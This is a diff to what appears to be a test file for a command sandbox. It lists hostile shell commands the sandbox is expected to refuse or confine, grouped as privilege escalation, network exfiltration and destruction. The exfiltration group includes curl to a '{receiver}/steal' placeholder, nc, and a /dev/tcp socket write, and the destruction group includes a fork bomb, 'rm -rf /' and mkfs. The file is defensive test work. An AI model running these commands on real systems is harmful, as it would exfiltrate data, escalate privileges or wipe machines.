@@ -83,8 +83,14 @@ COMMANDS: dict[str, dict[Expected, tuple[str, ...]]] = {
         "refused": ("true; sudo touch pwned.txt", "su -c 'touch pwned.txt'", "echo secret | sudo -S touch pwned.txt"),
     },
     "network": {
-        "refused": ("curl http://{receiver}/steal", "nc {receiver} 80", "ssh {receiver}", "ping -c1 127.0.0.1"),
-        CONFINED: ("bash -c 'echo x > /dev/tcp/127.0.0.1/80'", "perl -MSocket -e 1"),
+        "refused": (
+            "curl http://{receiver}/steal",
+            "nc {receiver} 80",
+            "ssh {receiver}",
+            "ping -c1 127.0.0.1",
+            "bash -c 'echo x > /dev/tcp/127.0.0.1/80'",
+        ),
+        CONFINED: ("perl -MSocket -e 1", "true; curl http://{receiver}/steal"),
     },
     "destruction": {
         "refused": (":(){{ :|:& }};:", "rm -rf /", "kill -9 1", "dd if=/dev/mem of=pwned", "shutdown now", "mkfs /dev/sda"),
